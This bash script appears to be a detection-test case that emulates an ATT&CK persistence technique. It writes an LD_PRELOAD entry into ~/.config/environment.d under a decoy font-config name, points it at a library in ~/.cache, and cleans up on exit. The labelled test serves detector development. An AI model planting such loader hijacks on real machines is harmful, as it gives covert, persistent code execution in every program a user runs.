#!/usr/bin/env bash
# tactic: persistence
# technique: T1574.006 Hijack Execution Flow: Dynamic Linker Hijacking; T1546 Event Triggered Execution
# behaviour: sets LD_PRELOAD for every program of the user's future sessions through ~/.config/environment.d (read by the systemd user manager)
# as: user
# expect: persistence, loader_hijack
set -u
trap 'rm -rf "$HOME/.config/environment.d"' EXIT
mkdir -p "$HOME/.config/environment.d"
printf 'LD_PRELOAD=%s/.cache/libfc.so\n' "$HOME" > "$HOME/.config/environment.d/90-fonts.conf"
